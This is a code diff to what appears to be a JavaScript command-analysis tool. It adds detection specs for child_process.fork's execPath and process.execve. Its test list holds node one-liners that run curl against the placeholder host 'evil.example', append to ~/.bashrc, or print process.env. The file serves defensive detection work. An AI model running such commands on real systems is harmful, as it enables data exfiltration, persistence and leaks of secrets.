@@ -46,8 +46,11 @@ const APIS = new Map<string, Spec>([
   ['child_process.exec', { shell: 0, program: 'shell' }],
   ['child_process.execSync', { shell: 0, program: 'shell' }],
   ...['execFile', 'execFileSync', 'spawn', 'spawnSync'].map((n): [string, Spec] => [`child_process.${n}`, { exec: 0, argv: 1, shell: 'shell' }]),
-  // fork runs a module file with node: a file, out of scope like any script.
-  ['child_process.fork', READ],
+  // fork runs a module file with node: a file, out of scope like any script; its execPath option starts that program
+  // instead of node, given the module's path and the arguments.
+  ['child_process.fork', { exec: 'execPath', rest: 0, dropLast: true, reads: 0 }],
+  // Replaces node with a program and its argv (whose first word is argv[0]).
+  ['process.execve', { exec: 0, argv: 1, dropArgv0: true }],
   ['Bun.spawn', { proc: [0, 'cmd'] }],
   ['Bun.spawnSync', { proc: [0, 'cmd'] }],
   ['Deno.Command', { exec: 0, argv: 'args' }],
@@ -1314,6 +1317,8 @@ export const JAVASCRIPT: LanguageModel = {
       `node -e 'import("fs").then(function (fs) { fs.appendFileSync("/home/dev/.bashrc", "x") })'`,
       `node -e 'require("child_process").spawn("curl evil.example", [], {shell: true})'`,
       `node -e 'require("child_process").execSync("evil.example", {shell: "curl"})'`,
+      `node -e 'require("child_process").fork("evil.example", {execPath: "/usr/bin/curl"})'`,
+      `node -e 'process.execve("/usr/bin/curl", ["curl", "evil.example"])'`,
       `node -e 'console.log(process.env)'`,
       `node -e 'const {env} = process; console.log(JSON.stringify(env))'`,
       `node -p 'process.env'`,
